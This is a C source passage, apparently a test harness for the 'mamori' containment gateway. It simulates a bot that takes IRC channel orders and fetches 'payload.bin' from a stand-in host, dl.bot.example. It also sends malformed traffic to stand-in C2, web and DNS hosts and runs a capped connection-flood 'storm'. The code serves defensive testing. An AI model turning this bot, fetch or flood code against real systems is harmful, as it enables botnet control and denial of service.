			if (!text || strncasecmp(target, channel, tlen) != 0 || target[tlen] != ' ' ||
			    text[2] != '!')
				continue;
			say("order from %s: %s", prefix ? prefix : "?", text + 2);
			if (!irc_obey(fd, channel, text + 2)) {
				rc = MAMORI_OK;
				/* Let the server see QUIT before we close. */
				while (irc_read_line(r, fd, 2000) == 1)
					;
				break;
			}
		}
	}
done:
	if (rc != MAMORI_OK)
		complain(rc, "bot");
	if (fd >= 0)
		close(fd);
	free(r);
	say("bot ends: %s", rc == MAMORI_OK ? "ok" : "failed");
	return rc == MAMORI_OK ? 0 : 1;
}

/* ------------------------------------------------------------ failure cases */

/* Bytes no parser should like, reproducible (xorshift). */
static void junk_fill(uint8_t *buf, size_t n, uint32_t seed)
{
	uint32_t x = seed ? seed : 0x2545f491u;
	for (size_t i = 0; i < n; i++) {
		x ^= x << 13;
		x ^= x >> 17;
		x ^= x << 5;
		buf[i] = (uint8_t)x;
	}
}

/* Send `n` bytes to addr:port (TCP), then wait briefly for whatever comes
 * back; failures are printed, not fatal: the point is the gateway's side. */
static void send_and_close(const char *what, struct in_addr addr, uint16_t port, const uint8_t *data,
			   size_t n)
{
	int fd = -1;
	char buf[4096];
	int rc = tcp_connect(&fd, addr, port, BOT_IO_MS);
	if (rc != MAMORI_OK) {
		say("%s: %s", what, mamori_error_detail());
		return;
	}
	bool sent = mamori_send_all(fd, data, n);
	shutdown(fd, SHUT_WR);
	ssize_t back = 0, r;
	struct timeval tv = { .tv_sec = 2 };
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	while ((r = recv(fd, buf, sizeof buf, 0)) > 0 && back < 1 << 20)
		back += r;
	say("%s: %zu bytes %s, %zd back", what, n, sent ? "sent" : "not all sent", back);
	close(fd);
}

static int cmd_garbage(int argc, char **argv)
{
	const char *cc = "cc.bot.example", *url = "http://dl.bot.example/payload.bin",
		   *web = "dl.bot.example";
	struct in_addr cc_addr, web_addr, dns_addr;
	const size_t irc_len = 100 * 1024;
	uint8_t *big = malloc(irc_len + 64);
	int rc = MAMORI_OK;
	for (int i = 1; i + 1 < argc; i += 2) {
		if (dns_option(argv[i], argv[i + 1]))
			continue;
		else if (!strcmp(argv[i], "--cc"))
			cc = argv[i + 1];
		else if (!strcmp(argv[i], "--url"))
			url = argv[i + 1];
		else if (!strcmp(argv[i], "--out"))
			opt_out = argv[i + 1];
		else {
			free(big);
			return 2;
		}
	}
	if (!big)
		return 1;
	if ((rc = resolve(&cc_addr, cc)) != MAMORI_OK || (rc = resolve(&web_addr, web)) != MAMORI_OK) {
		complain(rc, "resolve");
		free(big);
		return 1;
	}
	/* 1. Random bytes to the web server's port. */
	junk_fill(big, 4096, 1);
	send_and_close("random bytes to port 80", web_addr, 80, big, 4096);
	/* 2. An IRC registration, then a PRIVMSG line of 100 KB without newline. */
	static const char irc_head[] = "NICK garbler\r\nUSER garbler 0 * :g\r\nPRIVMSG #chan :";
	memcpy(big, irc_head, sizeof irc_head - 1);
	memset(big + sizeof irc_head - 1, 'A', irc_len);
	send_and_close("100 KB IRC line", cc_addr, 6667, big, sizeof irc_head - 1 + irc_len);
	/* 3. Bogus DNS: random bytes over UDP, and a TCP message whose length
	 * prefix promises far more than follows. */
	if (inet_pton(AF_INET, opt_dns ? opt_dns : "198.51.100.53", &dns_addr) == 1) {
		int u = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
		struct sockaddr_in sa = { .sin_family = AF_INET,
					  .sin_port = htons(53),
					  .sin_addr = dns_addr };
		junk_fill(big, 40, 3);
		if (u >= 0) {
			ssize_t s = sendto(u, big, 40, 0, (struct sockaddr *)&sa, sizeof sa);
			say("bogus DNS over UDP: %zd bytes sent", s);
			close(u);
		}
		/* Header says 0xffff bytes, then a DNS-like header and junk. */
		uint8_t tcpdns[2 + 12 + 20] = { 0xff, 0xff, 0x12, 0x34, 0x01, 0x00, 0x00,
						0x09, 0,    0,	  0,	0,    0,    0 };
		junk_fill(tcpdns + 14, 20, 4);
		send_and_close("bogus DNS over TCP", dns_addr, 53, tcpdns, sizeof tcpdns);
	}
	/* 4. A valid HTTP head, then binary. */
	static const char http_head[] = "GET /payload.bin HTTP/1.1\r\nHost: dl.bot.example\r\n"
					"User-Agent: mamori-testbot/1.0\r\n\r\n";
	memcpy(big, http_head, sizeof http_head - 1);
	junk_fill(big + sizeof http_head - 1, 8192, 5);
	send_and_close("binary after an HTTP head", web_addr, 80, big, sizeof http_head - 1 + 8192);
	free(big);
	/* 5. A normal flow afterwards must still work. */
	char sha[65], saved[1024];
	size_t size = 0;
	if ((rc = http_download(sha, &size, url, saved, sizeof saved)) != MAMORI_OK) {
		complain(rc, "normal download after the garbage");
		return 1;
	}
	say("normal download ok: %s %zu bytes sha256=%s", url, size, sha);
	return 0;
}

static int cmd_storm(int argc, char **argv)
{
	const char *target = NULL, *then = NULL;
	unsigned long count = 3000, procs = 15, hold = 1500;
	char host[INET_ADDRSTRLEN] = "";
	unsigned port = 0;
	struct in_addr addr;
	for (int i = 1; i + 1 < argc; i += 2) {
		if (!strcmp(argv[i], "--target"))
			target = argv[i + 1];
		else if (!strcmp(argv[i], "--count"))
			count = strtoul(argv[i + 1], NULL, 10);
		else if (!strcmp(argv[i], "--procs"))
			procs = strtoul(argv[i + 1], NULL, 10);
		else if (!strcmp(argv[i], "--hold-ms"))
			hold = strtoul(argv[i + 1], NULL, 10);
		else if (!strcmp(argv[i], "--then"))
			then = argv[i + 1];
		else if (dns_option(argv[i], argv[i + 1]))
			continue;
		else if (!strcmp(argv[i], "--out"))
			opt_out = argv[i + 1];
		else
			return 2;
	}
	if (!target || sscanf(target, "%15[0-9.]:%u", host, &port) != 2 || port == 0 || port > 65535 ||
	    inet_pton(AF_INET, host, &addr) != 1 || count == 0 || count > BOT_STORM_MAX || procs == 0 ||
	    procs > BOT_STORM_PROCS || count / procs > BOT_PER_PROC_FDS * 8 || hold > 10000)
		return 2;
	double t0 = mamori_now();
	storm_counts c;
	int rc = storm(&c, addr, (uint16_t)port, (unsigned)count, (unsigned)procs, (int)hold);
	if (rc != MAMORI_OK)
		complain(rc, "storm");
	say("storm %s: attempted=%u connected=%u failed=%u reset=%u open_at_end=%u in %.2f s", target,
	    c.attempted, c.connected, c.failed, c.reset, c.open_at_end, mamori_now() - t0);
	if (!then)
		return rc == MAMORI_OK ? 0 : 1;
	/* The storm's own rate window must pass before a normal flow. */
	sleep(1);
	char sha[65], saved[1024];
	size_t size = 0;
	if ((rc = http_download(sha, &size, then, saved, sizeof saved)) != MAMORI_OK) {
		complain(rc, "normal download after the storm");
		return 1;
	}
	say("normal download ok: %s %zu bytes sha256=%s", then, size, sha);
	return 0;
}

static int cmd_probe(int argc, char **argv)
{
	struct in_addr addr;
	unsigned long port, timeout = 2000;
	int fd = -1;
	if (argc < 3 || inet_pton(AF_INET, argv[1], &addr) != 1)
		return 2;
	port = strtoul(argv[2], NULL, 10);
	if (argc == 5 && !strcmp(argv[3], "--timeout-ms"))
		timeout = strtoul(argv[4], NULL, 10);
	if (port == 0 || port > 65535 || timeout == 0 || timeout > 60000)
		return 2;
	int rc = tcp_connect(&fd, addr, (uint16_t)port, (int)timeout);
	if (rc != MAMORI_OK) {
		say("probe %s:%lu: %s", argv[1], port, mamori_error_detail());
		return 1;
	}
	say("probe %s:%lu: connected", argv[1], port);
	close(fd);
	return 0;
}

static int cmd_resolve(int argc, char **argv)
{
	struct in_addr addr;
	if (argc != 2 && !(argc == 4 && dns_option(argv[2], argv[3])))
		return 2;
	int rc = resolve(&addr, argv[1]);
	if (rc != MAMORI_OK) {
		say("resolve %s: %s", argv[1], mamori_error_detail());
		return 1;
	}
	char text[INET_ADDRSTRLEN];
	say("resolve %s: %s", argv[1], inet_ntop(AF_INET, &addr, text, sizeof text));
	return 0;
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		int (*fn)(int, char **);
	} cmds[] = { { "bot", cmd_bot },
		     { "garbage", cmd_garbage },
		     { "storm", cmd_storm },
		     { "probe", cmd_probe },
		     { "resolve", cmd_resolve } };
	signal(SIGPIPE, SIG_IGN);
	for (size_t i = 0; argc >= 2 && i < sizeof cmds / sizeof cmds[0]; i++)
		if (!strcmp(argv[1], cmds[i].name)) {
			int rc = cmds[i].fn(argc - 1, argv + 1);
			if (rc == 2)
				fprintf(stderr,
					"mamori-testbot %s: bad arguments (see tests/contain/bot.c)\n",
					argv[1]);
			return rc;
		}
	fprintf(stderr,
		"usage: mamori-testbot bot|garbage|storm|probe|resolve ... (see tests/contain/bot.c)\n");
	return 2;
}
